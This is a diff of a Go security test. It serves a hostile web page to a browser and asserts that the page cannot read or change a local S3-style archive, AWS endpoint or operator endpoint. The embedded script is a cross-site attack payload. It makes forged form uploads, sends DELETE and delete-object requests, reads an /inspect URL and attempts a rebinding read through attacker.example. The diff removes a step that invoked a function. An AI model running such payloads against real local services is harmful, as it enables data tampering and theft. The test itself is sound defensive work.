@@ -50,7 +50,6 @@ func browser(t *testing.T) context.Context {
 const attack = `<!doctype html><iframe name=frame></iframe>
 <form id=upload target=frame method=post enctype=multipart/form-data action="%[1]s/datasink-archive">
 <input name=key value="orders/forged"><input type=file name=file id=file></form>
-<form id=invoke target=frame method=post enctype=text/plain action="%[3]s/2015-03-31/functions/datasink-drainer/invocations"><input name='{"a":"' value='"}'></form>
 <script>
 async function attack() {
 	const told = {};
@@ -62,13 +61,10 @@ async function attack() {
 	await step("delete", () => text("%[1]s/datasink-archive/orders/kept", {method: "DELETE"}));
 	await step("deleteSimple", async () => { await fetch("%[1]s/datasink-archive?delete", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "<Delete><Object><Key>orders/kept</Key></Object></Delete>"}); return "sent"; });
 	await step("tap", () => text("%[2]s/", {method: "POST", headers: {"Content-Type": "text/plain"}, body: "{}"}));
-	await step("operator", () => text("%[4]s/inspect"));
-	await step("rebound", () => text("%[5]s/datasink-archive"));
-	await step("invoke", async () => { await fetch("%[3]s/2015-03-31/functions/datasink-drainer/invocations", {method: "POST", mode: "no-cors", body: "{}"}); return "sent"; });
+	await step("operator", () => text("%[3]s/inspect"));
+	await step("rebound", () => text("%[4]s/datasink-archive"));
 	const files = new DataTransfer(); files.items.add(new File(["forged"], "x")); file.files = files.files;
-	for (const form of [upload, invoke]) {
-		await new Promise(done => { document.querySelector("iframe").onload = done; form.submit(); });
-	}
+	await new Promise(done => { document.querySelector("iframe").onload = done; upload.submit(); });
 	return JSON.stringify(told);
 }
 </script>`
@@ -90,7 +86,7 @@ func TestAWebPageGetsNothing(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	page := fmt.Sprintf(attack, e.S3URL, e.AWSURL, p.url, e.OperatorURL, "http://attacker.example:"+s3Port)
+	page := fmt.Sprintf(attack, e.S3URL, e.AWSURL, e.OperatorURL, "http://attacker.example:"+s3Port)
 	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
 		w.Header().Set("Content-Type", "text/html")
 		_, _ = w.Write([]byte(page))
@@ -114,8 +110,8 @@ func TestAWebPageGetsNothing(t *testing.T) {
 			t.Errorf("%s: the page read %q", step, got)
 		}
 	}
-	if len(told) != 9 {
-		t.Errorf("the page took %d steps, want 9: %v", len(told), told)
+	if len(told) != 8 {
+		t.Errorf("the page took %d steps, want 8: %v", len(told), told)
 	}
 	if diff := cmp.Diff(before, s3test.Objects(t, p.root)); diff != "" {
 		t.Errorf("the archive has changed (-before +after):\n%s", diff)
